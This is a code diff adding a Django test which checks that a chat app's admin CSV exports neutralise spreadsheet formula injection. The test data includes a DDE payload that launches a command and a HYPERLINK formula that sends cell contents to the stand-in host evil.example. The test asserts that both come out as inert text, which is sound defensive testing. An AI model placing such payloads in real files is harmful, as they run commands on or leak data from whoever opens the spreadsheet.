@@ -8,8 +8,10 @@ from typing import Any
 
 import pytest
 from django.test import Client
+from django.utils import timezone
 
-from chat.models import Feedback, Message
+from chat import spreadsheets
+from chat.models import Feedback, Message, Usage
 from chat.services import conversations
 from tests.conftest import exchange
 
@@ -113,3 +115,29 @@ def test_the_admin_review_queue_filters_shows_the_conversation_and_exports_csv(
         ("down", "olivia", "Wrong capital."),
         ("up", "mallory", ""),
     }
+
+
+def test_exported_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(
+    admin_client: Client, owner: Any
+) -> None:
+    # A comment and a reply (users control replies through import or /v1 history)
+    # written to run when the operator opens the CSV.
+    conversation = conversations.conversation_create(user=owner, title="Sheets")
+    _, hostile = exchange(conversation, "Hi", "+cmd|' /C calc'!A0")
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
+    Feedback.objects.create(message=hostile, rating=Feedback.Rating.DOWN, comment=formula)
+    Usage.objects.create(user=owner, day=timezone.localdate(), model="@SUM(1+1)", replies=1)
+
+    exported = admin_client.post(
+        "/admin/chat/feedback/",
+        {"action": "export_csv", "_selected_action": [str(Feedback.objects.get().pk)]},
+    )
+    row = list(csv.reader(io.StringIO(exported.content.decode())))[1]
+    assert (row[6], row[7]) == ("'+cmd|' /C calc'!A0", "'" + formula)
+
+    report = admin_client.get("/admin/chat/usage/report/", {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(report.content.decode())))
+    assert rows[1][:3] == ["olivia", "'@SUM(1+1)", "1"]  # numbers are written as they are
+    for cell in ("-2+3", "\t=1", "\r=1"):
+        assert spreadsheets.inert(cell) == "'" + cell
+    assert spreadsheets.inert(-5) == -5 and spreadsheets.inert("Paris") == "Paris"
